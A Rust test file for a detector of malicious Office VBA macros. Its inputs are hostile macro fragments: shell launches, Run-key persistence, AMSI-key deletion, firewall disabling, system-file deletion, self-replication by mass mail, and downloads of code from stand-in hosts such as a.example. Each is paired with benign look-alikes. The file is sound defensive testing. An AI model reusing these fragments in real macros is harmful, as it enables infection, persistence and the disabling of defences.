//! Ways in which macros act without the words that everybody looks for; beside each what honest macros do.

use super::*;
use crate::budget::{Budget, Limits};
use crate::languages::surroundings::Surroundings;
use crate::languages::vba::{Module, ModuleKind, Project, analyse};

fn stops_of(modules: &[(&str, ModuleKind, &str)]) -> bool {
    stops_in(&Surroundings::default(), modules)
}

fn stops_in(around: &Surroundings, modules: &[(&str, ModuleKind, &str)]) -> bool {
    let module = |(name, kind, source): &(&str, ModuleKind, &str)| Module {
        name: (*name).into(),
        path: format!("VBA/{name}"),
        kind: *kind,
        source: (*source).into(),
    };
    let project = Project { modules: modules.iter().map(module).collect(), ..Project::default() };
    let budget = Budget::new(Limits::default(), |_| ());
    let (behaviour, result) = analyse(&project, around, &budget);
    result.unwrap();
    let mut found = Vec::new();
    find(&View::Macros(&behaviour), &mut found);
    found.iter().any(|observation| observation.kind.id == "vba.auto-run-acts")
}

/// Whether opening a document with this macro is a stop.
fn stops(body: &str) -> bool {
    stops_of(&[("M", ModuleKind::Standard, &format!("Sub AutoOpen()\n{body}\nEnd Sub"))])
}

/// The same, with functions of DLLs.
fn stops_with(declares: &[&str], body: &str) -> bool {
    let declares: String = declares.iter().map(|declare| format!("Private Declare PtrSafe {declare}\n")).collect();
    stops_of(&[("M", ModuleKind::Standard, &format!("{declares}Sub AutoOpen()\n{body}\nEnd Sub"))])
}

#[test]
fn commands_of_word_that_a_macro_takes() {
    let run = |name: &str, document: &str| {
        let source = format!("Sub {name}()\nShell \"cmd /c x\", 0\nEnd Sub");
        stops_of(&[(document, ModuleKind::Document, ""), ("NewMacros", ModuleKind::Standard, &source)])
    };
    for name in ["FilePrint", "FileSave", "fileSAVEas", "FileClose", "FileExit", "ToolsMacro", "EditCopy"] {
        assert!(run(name, "ThisDocument"), "{name}");
    }
    // Excel has no such commands: there it is a procedure for a button.
    assert!(!run("FileSave", "ThisWorkbook") && !run("PrintLetter", "ThisDocument"));
    let main = [
        ("ThisDocument", ModuleKind::Document, ""),
        ("FileSave", ModuleKind::Standard, "Sub MAIN()\nShell \"cmd /c x\"\nEnd Sub"),
    ];
    assert!(stops_of(&main));
    // Whatever the module of the document is called.
    let around = Surroundings { paragraphs: vec!["Dear".into()], ..Surroundings::default() };
    let print = [("NewMacros", ModuleKind::Standard, "Sub FilePrint()\nShell \"cmd /c x\"\nEnd Sub")];
    assert!(stops_in(&around, &print) && !stops_of(&print));
    // What honest templates do there: they bring the fields up to date, keep a log, ask a server.
    let fields = "Sub FilePrint()\nActiveDocument.Fields.Update\nActiveDocument.PrintOut\nEnd Sub";
    assert!(!stops_of(&[("ThisDocument", ModuleKind::Document, ""), ("M", ModuleKind::Standard, fields)]));
    let fetch = "Sub FileSave()\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"http://a.example/\"\nh.Send\nOpen p For Output As #1\nEnd Sub";
    assert!(!stops_of(&[("ThisDocument", ModuleKind::Document, ""), ("M", ModuleKind::Standard, fetch)]));
}

#[test]
fn what_every_reader_does() {
    let run = |event: &str| {
        let source = format!("Private Sub {event}\nShell \"cmd /c x\", 0\nEnd Sub");
        stops_of(&[("Sheet1", ModuleKind::Document, &source)])
    };
    assert!(run("Worksheet_SelectionChange(ByVal Target As Range)"));
    assert!(run("Workbook_BeforeSave(ByVal u As Boolean, c As Boolean)") && run("Workbook_BeforePrint(c As Boolean)"));
    let key = |key: &str| {
        let source = format!(
            "Sub Auto_Open()\nApplication.OnKey \"{key}\", \"Go\"\nEnd Sub\nSub Go()\nShell \"cmd /c x\"\nEnd Sub"
        );
        stops_of(&[("M", ModuleKind::Standard, &source)])
    };
    assert!(key("{ENTER}") && key("a") && key("~"));
    assert!(!key("^+R") && !key("{F5}") && !key("%{F8}"));
    for event in ["Worksheet_BeforeDoubleClick(ByVal t As Range, c As Boolean)", "CommandButton1_Click()"] {
        assert!(!run(event), "{event}");
    }
    // A trigger that starts by itself stands for what both reach.
    let both = "Private Sub Workbook_BeforeSave(ByVal u As Boolean, c As Boolean)\nGo\nEnd Sub\nSub Workbook_Open()\nNext1\nEnd Sub\n\
                Sub Next1()\nGo\nEnd Sub\nSub Go()\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"http://a.example/\"\nh.Send\n\
                Open p For Binary As #1\nEnd Sub";
    assert!(stops_of(&[("ThisWorkbook", ModuleKind::Document, both)]));
}

#[test]
fn functions_of_the_system() {
    let run = "Function F Lib \"msvcrt\" Alias \"_wsystem\" (ByVal c As LongPtr) As Long";
    assert!(stops_with(&[run], "F StrPtr(\"cmd /c x\")"));
    assert!(stops_with(
        &["Function F Lib \"ucrtbase\" Alias \"_spawnl\" (ByVal m As Long, ByVal c As String) As Long"],
        "F 1, \"a.exe\""
    ));
    assert!(stops_with(
        &[
            "Sub F Lib \"url\" Alias \"OpenURLA\" (ByVal h As Long, ByVal i As Long, ByVal c As String, ByVal n As Long)"
        ],
        "F 0, 0, \"C:\\a.hta\", 1"
    ));
    assert!(stops_with(
        &["Function F Lib \"msi\" Alias \"MsiInstallProductA\" (ByVal p As String, ByVal c As String) As Long"],
        "F \"http://a.example/a.msi\", \"\""
    ));
    assert!(stops_with(
        &["Function F Lib \"kernel32\" Alias \"#1540\" (ByVal c As String, ByVal n As Long) As Long"],
        "F \"x\", 0"
    ));
    assert!(stops_with(
        &["Function F Lib \"advapi32\" Alias \"CreateServiceA\" (ByVal h As LongPtr) As LongPtr"],
        "F h"
    ));
    assert!(stops_with(
        &["Function LoadLibraryA Lib \"kernel32\" (ByVal c As String) As LongPtr"],
        "LoadLibraryA \"\\\\198.51.100.9\\s\\x.dll\""
    ));
    assert!(stops_with(&["Function Go Lib \"\\\\a.example@SSL\\dav\\x.dll\" () As Long"], "Go"));
    let load = "Function LdrLoadDll Lib \"ntdll\" (ByVal p As LongPtr, ByVal f As LongPtr, ByVal n As LongPtr, h As LongPtr) As Long";
    assert!(stops_with(&[load], "LdrLoadDll 0, 0, StrPtr(\"C:\\Users\\Public\\x.dll\"), h"));
    assert!(!stops_with(&[load], "LdrLoadDll 0, 0, StrPtr(ThisWorkbook.Path & \"\\x.dll\"), h"));
    let own = ["Function Go Lib \"own.dll\" () As Long"];
    assert!(stops_with(&own, "Open Environ(\"TEMP\") & \"\\own.dll\" For Binary As #1\nPut #1, , b\nClose\nGo"));
    assert!(stops_with(&["Function Go Lib \"Document1.asd\" () As Long"], "Go"));
    let variable = "Function SetEnvironmentVariableA Lib \"kernel32\" (ByVal n As String, ByVal v As String) As Long";
    assert!(stops_with(&[variable], "SetEnvironmentVariableA \"COMPlus_ETWEnabled\", \"0\""));
    assert!(!stops_with(&[variable], "SetEnvironmentVariableA \"OWN\", \"0\""));
    // What honest macros declare.
    assert!(!stops_with(&own, "Go"));
    assert!(!stops_with(&["Function F Lib \"shell32\" Alias \"#61\" (ByVal h As Long) As Long"], "F 0"));
    assert!(!stops_with(&["Function system Lib \"own.dll\" (ByVal c As String) As Long"], "system \"x\""));
    assert!(!stops_with(
        &["Function LoadLibraryA Lib \"kernel32\" (ByVal c As String) As LongPtr"],
        "LoadLibraryA ThisWorkbook.Path & \"\\a.dll\""
    ));
    let mapping = "Function CreateFileMappingA Lib \"kernel32\" (ByVal h As LongPtr, ByVal a As LongPtr, ByVal p As Long, ByVal x As Long, ByVal y As Long, ByVal n As String) As LongPtr";
    assert!(stops_with(&[mapping], "h = CreateFileMappingA(-1, 0, &H40, 0, 4096, vbNullString)"));
    assert!(!stops_with(&[mapping], "h = CreateFileMappingA(-1, 0, 4, 0, 4096, \"shared\")"));
}

#[test]
fn settings_by_functions_and_objects() {
    let declares = [
        "Function RegOpenKeyA Lib \"advapi32\" (ByVal h As LongPtr, ByVal k As String, r As LongPtr) As Long",
        "Function RegSetValueExA Lib \"advapi32\" (ByVal h As LongPtr, ByVal n As String, ByVal r As Long, ByVal t As Long, ByVal v As String, ByVal c As Long) As Long",
        "Function RegQueryValueExA Lib \"advapi32\" (ByVal h As LongPtr, ByVal n As String, ByVal r As Long, t As Long, ByVal v As String, c As Long) As Long",
    ];
    let run = "RegOpenKeyA &H80000001, \"Software\\Microsoft\\Windows\\CurrentVersion\\Run\", k\n";
    assert!(stops_with(&declares, &format!("{run}RegSetValueExA k, \"Upd\", 0, 1, \"a.exe\", 5")));
    assert!(!stops_with(&declares, &format!("{run}RegQueryValueExA k, \"Upd\", 0, t, v, c")));
    let own = "RegOpenKeyA &H80000001, \"Software\\Own\\Settings\", k\nRegSetValueExA k, \"Colour\", 0, 1, \"red\", 3";
    assert!(!stops_with(&declares, own));
    let write =
        |key: &str| stops(&format!("CreateObject(\"WScript.Shell\").RegWrite \"HKCU\\{key}\", \"x\", \"REG_SZ\""));
    for key in [
        "Software\\Microsoft\\Office\\16.0\\Excel\\Options\\OPEN",
        "Control Panel\\Desktop\\SCRNSAVE.EXE",
        "Software\\Microsoft\\Office\\16.0\\Outlook\\WebView\\Inbox\\URL",
        "Software\\Microsoft\\Office\\16.0\\Common\\Security\\MacroRuntimeScanScope",
        "Software\\Microsoft\\Office\\16.0\\Word\\Security\\AllowDDE",
        "Software\\Classes\\CLSID\\{0}\\ScriptletURL\\",
    ] {
        assert!(write(key), "{key}");
    }
    assert!(
        !write("Software\\Microsoft\\Office\\16.0\\Excel\\Options\\DefaultPath")
            && !write("Control Panel\\International\\sShortDate")
    );
    let environment =
        |name: &str| stops(&format!("CreateObject(\"WScript.Shell\").Environment(\"User\").Item(\"{name}\") = \"1\""));
    assert!(environment("COMPlus_ETWEnabled") && environment("COR_PROFILER_PATH"));
    assert!(!environment("OWN_FOLDER"));
    assert!(!stops("x = CreateObject(\"WScript.Shell\").Environment(\"User\").Item(\"COR_PROFILER_PATH\")"));
    assert!(stops("CreateObject(\"WScript.Shell\").RegDelete \"HKLM\\SOFTWARE\\Microsoft\\AMSI\\Providers\\{2}\\\""));
    assert!(!stops("CreateObject(\"WScript.Shell\").RegDelete \"HKCU\\Software\\Own\\\""));
    assert!(stops("Open \"C:\\Windows\\System32\\drivers\\etc\\hosts\" For Append As #1\nPrint #1, \"x\""));
    assert!(!stops("Open \"C:\\Windows\\System32\\drivers\\etc\\hosts\" For Input As #1"));
    assert!(stops("CreateObject(\"HNetCfg.FwPolicy2\").FirewallEnabled(1) = False"));
    assert!(!stops("x = CreateObject(\"HNetCfg.FwPolicy2\").FirewallEnabled(1)"));
}

#[test]
fn documents_from_the_web() {
    assert!(stops("Application.AutomationSecurity = msoAutomationSecurityLow\nWorkbooks.Open \"https://a.example/s\""));
    assert!(stops(
        "Application.AutomationSecurity = 1\nDocuments.Open FileName:=\"http://a.example/x.doc\", Visible:=False"
    ));
    assert!(stops("Workbooks.Open Filename:=\"https://a.example/x.xlsm\""));
    assert!(stops("CreateObject(\"PowerPoint.Application\").Presentations.Open \"\\\\a.example@SSL\\x\\x.ppam\""));
    assert!(stops("Documents.Add Template:=\"http://a.example/x.dotm\""));
    assert!(stops(
        "Set a = CreateObject(\"Access.Application\")\na.OpenCurrentDatabase \"http://198.51.100.9/x.xlsm\""
    ));
    assert!(stops("AddIns.Add Environ(\"TEMP\") & \"\\x.wll\", True"));
    for honest in [
        "Workbooks.Open \"https://a.example/rates.csv\"",
        "Application.AutomationSecurity = msoAutomationSecurityLow\nWorkbooks.Open \"https://a.example/rates.csv\"",
        "Application.AutomationSecurity = msoAutomationSecurityForceDisable\nWorkbooks.Open \"https://a.example/old.xls\"",
        "Workbooks.Open \"https://own.sharepoint.com/sites/a/Master.xlsm\"",
        "Workbooks.Open \"http://intranet/tools/Master.xlsm\"",
        "Workbooks.Open \"\\\\server\\share\\Master.xlsm\"",
        "AddIns.Add ThisWorkbook.Path & \"\\own.xlam\"",
    ] {
        assert!(!stops(honest), "{honest}");
    }
}

#[test]
fn copies_of_itself() {
    assert!(stops("F$ = WordBasic.[FileName$]() + \":AutoOpen\"\nWordBasic.MacroCopy F$, \"Global:AutoOpen\""));
    assert!(stops("Application.OrganizerCopy ActiveDocument.FullName, NormalTemplate.FullName, \"M\", 3"));
    assert!(!stops("Application.OrganizerCopy ActiveDocument.FullName, NormalTemplate.FullName, \"Heading 1\", 0"));
    let copy = |path: &str| {
        stops(&format!(
            "Set f = CreateObject(\"Scripting.FileSystemObject\").GetFile(ActiveDocument.FullName)\nf.Copy {path}"
        ))
    };
    assert!(copy("Environ(\"APPDATA\") & \"\\Microsoft\\Word\\STARTUP\\x.dotm\"") && !copy("\"D:\\backup\\x.docm\""));
    assert!(stops("With WordBasic\n.MacroCopy EN$ + \":A\", \"A\", 1\nEnd With"));
    let export = "ActiveDocument.VBProject.VBComponents(\"M\").Export \"c:\\a.sys\"\nSet d = NormalTemplate.VBProject\nd.VBComponents.Import (\"c:\\a.sys\")";
    assert!(stops(export));
    assert!(!stops(&export.replace("NormalTemplate", "ActiveDocument")));
    assert!(stops(
        "ActiveDocument.SaveAs2 FileName:=Environ(\"appdata\") & \"\\Microsoft\\Templates\\a.dotm\", FileFormat:=13"
    ));
    assert!(stops(
        "WordBasic.FileSaveAs Name:=Environ(\"APPDATA\") & \"\\Microsoft\\Word\\STARTUP\\a.dot\", Format:=1"
    ));
    assert!(!stops("ActiveDocument.SaveAs2 FileName:=\"C:\\Letters\\a.docm\", FileFormat:=13"));
    assert!(!stops(
        "FileCopy \"\\\\server\\templates\\letter.dotm\", Environ(\"appdata\") & \"\\Microsoft\\Templates\\letter.dotm\""
    ));
    // To everybody in the address book, and to one person.
    let mail = "Set o = CreateObject(\"Outlook.Application\")\n";
    let all = "For Each a In o.GetNamespace(\"MAPI\").AddressLists\nFor i = 1 To a.AddressEntries.Count\nSet m = o.CreateItem(0)\nm.Recipients.Add a.AddressEntries(i)\nm.Send\nNext\nNext";
    assert!(stops(&format!("{mail}{all}")));
    assert!(!stops(&format!("{mail}Set m = o.CreateItem(0)\nm.To = \"a@b.example\"\nm.Send")));
}

#[test]
fn what_is_deleted() {
    assert!(stops("If Day(Now()) = 31 Then\nKill \"C:\\WINDOWS\\system32\\*.*\"\nEnd If"));
    assert!(stops("CreateObject(\"Scripting.FileSystemObject\").DeleteFolder \"C:\\Program Files\""));
    assert!(!stops("Kill Environ(\"TEMP\") & \"\\*.tmp\"") && !stops("Kill ThisWorkbook.Path & \"\\*.*\""));
}

#[test]
fn other_objects_that_start_programs() {
    for body in [
        "Set c = CreateObject(\"WSHController\")\nSet r = c.CreateScript(\"C:\\Users\\Public\\x.vbs\")\nr.Execute",
        "CreateObject(\"Shell.Application\").ControlPanelItem Environ(\"TEMP\") & \"\\x.cpl\"",
        "n = WordBasic.DDEInitiate(\"cmd\", \"/c calc\")",
        "DDEExecute c, \"[AddItem(\"\"mshta http://a.example/x\"\",\"\"u\"\")]\"",
        "GetObject(\"winmgmts:root\\cimv2:Win32_Product\").Install \"http://a.example/x.msi\", \"\", True",
        "CreateObject(\"InternetExplorer.Application\").Navigate \"C:\\Users\\Public\\x.hta\"",
        "ActiveDocument.FollowHyperlink \"ms-msdt:/id PCWDiagnostic\"",
        "ActiveDocument.FollowHyperlink \"SEARCH-MS:query=x&crumb=location:\\\\a.example\\s\"",
        "CreateObject(\"ADODB.Connection\").Execute \"exec xp_cmdshell 'whoami'\"",
        "Set d = CreateObject(\"Msxml2.FreeThreadedDOMDocument.6.0\")\nd.setProperty \"AllowXsltScript\", True\nd.Load \"http://a.example/x.xsl\"",
        "Set l = CreateObject(\"WScript.Shell\").CreateShortcut(\"C:\\Users\\a\\Desktop\\Mail.lnk\")\nl.TargetPath = \"powershell.exe\"\nl.Arguments = \"-w hidden -c x\"\nl.Save",
        "FileCopy ActiveDocument.FullName, Environ(\"TEMP\") & \"\\a.zip\"\nShell Environ(\"TEMP\") & \"\\image1.png\"",
        "Set u = GetObject(\"WinNT://./\").Create(\"user\", \"help\")\nu.SetPassword \"x\"\nu.SetInfo",
    ] {
        assert!(stops(body), "{body}");
    }
    for body in [
        "CreateObject(\"Shell.Application\").ControlPanelItem \"desk.cpl\"",
        "n = DDEInitiate(\"Excel\", \"C:\\a.xls\")",
        "DDEExecute c, \"[FileOpen \"\"C:\\a.doc\"\"]\"",
        "Set d = CreateObject(\"Msxml2.DOMDocument.6.0\")\nd.Load \"http://a.example/rates.xml\"",
        "ActiveDocument.FollowHyperlink \"https://a.example/help\"",
        "Set l = CreateObject(\"WScript.Shell\").CreateShortcut(\"C:\\Users\\a\\Desktop\\Tool.lnk\")\nl.TargetPath = ThisWorkbook.FullName\nl.Save",
        "Set o = Documents.Open(\"C:\\a.docx\")\no.Tables(1).Rows.Add",
        "Set w = CreateObject(\"WScript.Shell\")\nw.Run \"C:\\a\\picture.png\"",
    ] {
        assert!(!stops(body), "{body}");
    }
}

#[test]
fn tools_that_nothing_starts_and_references() {
    let copy = "Sub MoveMemory Lib \"kernel32\" Alias \"RtlMoveMemory\" (a As Any, b As Any, ByVal n As LongPtr)";
    let protect = "Function VirtualProtect Lib \"kernel32\" (a, b, c, d) As Long";
    let ribbon = "MoveMemory ribbon, p, LenB(p)";
    let patch = "Sub Patch()\nVirtualProtect a, 12, 64, b\nMoveMemory a, c, 12";
    // What brings a lost ribbon back, beside a tool that only a person starts.
    assert!(!stops_with(&[copy, protect], &format!("{ribbon}\nEnd Sub\n{patch}")));
    assert!(stops_with(&[copy, protect], &format!("{ribbon}\nPatch\nEnd Sub\n{patch}")));
    // A library that a list names, and one that lies where anybody may write.
    let refer =
        |path: &str| format!("Dim p As VBProject\nSet p = ThisDocument.VBProject\np.References.AddFromFile {path}");
    assert!(!stops(&refer("Sheet1.Range(\"A1\")")));
    assert!(stops(&refer("Environ(\"TEMP\") & \"\\x.tlb\"")) && stops(&refer("\"http://a.example/x.dotm\"")));
    assert!(stops("ThisDocument.VBProject.VBComponents(1).CodeModule.AddFromFile x"));
}
